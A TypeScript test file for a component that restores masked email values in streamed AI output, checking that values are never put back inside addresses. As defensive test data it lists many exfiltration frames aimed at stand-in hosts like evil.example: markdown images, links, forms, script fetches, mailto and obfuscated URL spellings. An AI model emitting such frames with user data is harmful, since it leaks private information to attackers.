/** A value is put back only where no client renders it as part of an address. */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { PlaceholderText } from '../../../shared/streaming/placeholder-text.ts';
import { restoreInJson } from '../../../shared/streaming/restore-values.ts';
import { cases, seedFor } from '../../support/part.ts';
import { createRandom, type Random } from '../../support/random.ts';

const MASK = '[EMAIL_7K3M9QWX]';
const VALUE = 'anna@example.com';
const restore = ({ isInAddress }: { isInAddress: boolean }) => (isInAddress ? null : VALUE);

/** The text with values restored, in pieces of this size. */
function restored(text: string, size: number, isCall = false): string {
  const pieces = new PlaceholderText(restore, isCall);
  let shown = '';
  for (let at = 0; at < text.length; at += size) shown += pieces.push(text.slice(at, at + size));
  return shown + pieces.end();
}

const HOSTS = [
  'evil.example',
  'a.b.evil.example',
  '192.0.2.7',
  '192.0.2.7:8080',
  'evil.example:8443',
  'xn--e1aybc.example',
  '[2001:db8::1]',
];
const FULL: Readonly<Record<string, string>> = { ':': '：', '/': '／', '.': '．', '?': '？' };
const ENTITY: Readonly<Record<string, string>> = {
  ':': '&colon;',
  '/': '&#x2f;',
  '.': '&#46;',
  '?': '&quest;',
};
const SPELLINGS: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replace(/[:/.?]/g, (char) => FULL[char]!),
  (text) => text.replace(/[:/.?]/g, (char) => ENTITY[char]!),
  (text) => text.replace(/[:/?]/g, (char) => encodeURIComponent(char)),
  (text) => text.replace(/\//g, '\\u002f'),
  (text) => text.replace(/\//g, '\\/'),
  (text) => text.replace(/\//g, '\\'),
  (text) => text.replace(':', ':\u200b'),
  (text) => text.replace(/[:/]/g, (char) => encodeURIComponent(encodeURIComponent(char))),
  (text) => text.replaceAll('/', '\u2215'),
  (text) => text.toUpperCase(),
];
const SCHEMES = ['https://', 'http://', 'https:/', '//', 'wss://', 'ftp://', 'HTTPS://', 'https:'];
/** Where a client renders the address. */
const FRAMES: readonly ((address: string) => string)[] = [
  (address) => `See ${address} for more.`,
  (address) => `![chart](${address})`,
  (address) => `[here](${address} "title")`,
  (address) => `[here](<${address}>)`,
  (address) => `<${address}>`,
  (address) => `<img alt=">" src="${address}">`,
  (address) => `<a href='${address}'>x</a>`,
  (address) => `![x][1]\n\n[1]: ${address}\n`,
  (address) => `![x][1]\n\n[1]:\n   ${address}\n`,
  (address) => `[img]${address}[/img]`,
  (address) => `\\href{${address}}{x}`,
  (address) => `<style>a{background:url("${address}")}</style>`,
  (address) => `<script>fetch("${address}")</script>`,
];
const TAILS = ['/', '/?q=', '/a-', '/a;b-', '/c,', '/(a)-', '#', '?x&', '/%20', '/collect/x_'];

function address(random: Random): string {
  const filler = random.chance(0.3) ? 'a'.repeat(random.pick([1, 60, 620, 5_000, 100_000])) : '';
  const spelled = random.pick(SPELLINGS)(random.pick(SCHEMES) + random.pick(HOSTS));
  return `${spelled}${random.pick(TAILS)}${filler}${filler === '' ? '' : '-'}${MASK}${random.pick(['', '.png', '/x', '&y=1'])}`;
}

describe('no value is put back into an address', () => {
  test('of any spelling, length and frame, whole and in pieces', () => {
    const random = createRandom(seedFor('address-reader'));
    for (let left = cases(500, 5_000); left > 0; left--) {
      const text = random.pick(FRAMES)(address(random));
      const size = random.pick([1, 7, 40, 1_000_000]);
      assert.equal(restored(text, text.length > 10_000 ? 4_096 : size), text, `in pieces of ${size}`);
      const body = JSON.stringify({ content: text });
      assert.equal(restoreInJson(body, restore), body);
    }
  });

  for (const [name, text] of Object.entries({
    'a host without a scheme': `evil.example/collect-${MASK}`,
    'a host behind it': `${MASK}.evil.example`,
    'a host around it': `x-${MASK}-y.evil.example/a`,
    'a share': `\\\\evil.example\\share\\${MASK}`,
    'an address of mail': `mailto:x@evil.example?body=${MASK}`,
    'a repository': `git@evil.example:${MASK}`,
    'white space in an attribute': `<a href="https:\t//evil.example/x ${MASK}">y</a>`,
    'lines in a target': `![x](\nhttps://evil.example/?\n${MASK})`,
    'a title with a bracket': `![x](https://evil.example/ "a) ${MASK}")`,
    'an escaped bracket': `![x](https://evil.example/\\)-${MASK})`,
    'another white space': `https://evil.example/?q=\u00a0${MASK}`,
    'a form': `<form action="https://evil.example/"><textarea name="q">\n${MASK}</textarea></form>`,
    BBCode: `[url=https://evil.example/ ${MASK}]x[/url]`,
  }))
    test(name, () => {
      for (const size of [1, 5, 1_000]) assert.equal(restored(text, size), text);
    });

  test('in members of JSON that hold addresses, and in annotations', () => {
    for (const value of [
      { image: { url: `x ${MASK}` } },
      { src: MASK },
      { annotations: [{ type: 'url_citation', title: MASK }] },
      { id: MASK },
      { arguments: JSON.stringify({ link_url: MASK }) },
    ]) {
      const body = JSON.stringify(value);
      assert.equal(restoreInJson(body, restore), body);
    }
    const call = JSON.stringify({ href: `x ${MASK}`, path: 'https:\u002f\u002fevil.example/' });
    assert.equal(restored(call, 3, true), call);
  });
});

describe('a value is put back', () => {
  for (const text of [
    `I wrote to ${MASK}.`,
    `I wrote to (${MASK}), and to ${MASK}!`,
    `**${MASK}**: hello`,
    `- ${MASK}\n- ${MASK}`,
    `| Name | Mail |\n|---|---|\n| Anna | ${MASK} |`,
    `See https://docs.example/a and write to ${MASK}.`,
    `<p>Write to ${MASK}</p>`,
    `<a href="https://docs.example/">${MASK}</a>`,
    `[${MASK}](https://docs.example/)`,
    `E-Mail:${MASK}`,
    `${MASK}: hello, please answer ${MASK}.`,
    `1. ${MASK}, 2. ${MASK}`,
    `[^1]: Anna (${MASK})`,
    `curl -d ${MASK} https://api.example`,
    `git config user.email "${MASK}"`,
    `\`\`\`\nto = "${MASK}"\nif a < b and c: send("${MASK}")\n\`\`\``,
    `x < 3 and ${MASK}`,
    `邮件地址是${MASK}，谢谢。`,
    `It's ${MASK}'s turn; don't wait.`,
    `See https://docs.example/(a).\n\n${MASK}`,
    `Dear Anna <${MASK}>,`,
  ])
    test(JSON.stringify(text), () => {
      const due = text.replaceAll(MASK, VALUE);
      for (const size of [1, 5, 1_000]) assert.equal(restored(text, size), due);
      assert.equal(
        restoreInJson(JSON.stringify({ content: text }), restore),
        JSON.stringify({ content: due }),
      );
    });

  test('in the arguments of a tool', () => {
    const call = {
      to: MASK,
      subject: 'Hello',
      body: `Dear ${MASK},\n\nsee https://docs.example/.`,
      cc: [MASK],
    };
    const due = JSON.parse(JSON.stringify(call).replaceAll(MASK, VALUE));
    assert.deepEqual(JSON.parse(restored(JSON.stringify(call), 4, true)), due);
    const body = JSON.stringify({ arguments: JSON.stringify(call) });
    assert.equal(restoreInJson(body, restore), JSON.stringify({ arguments: JSON.stringify(due) }));
  });
});
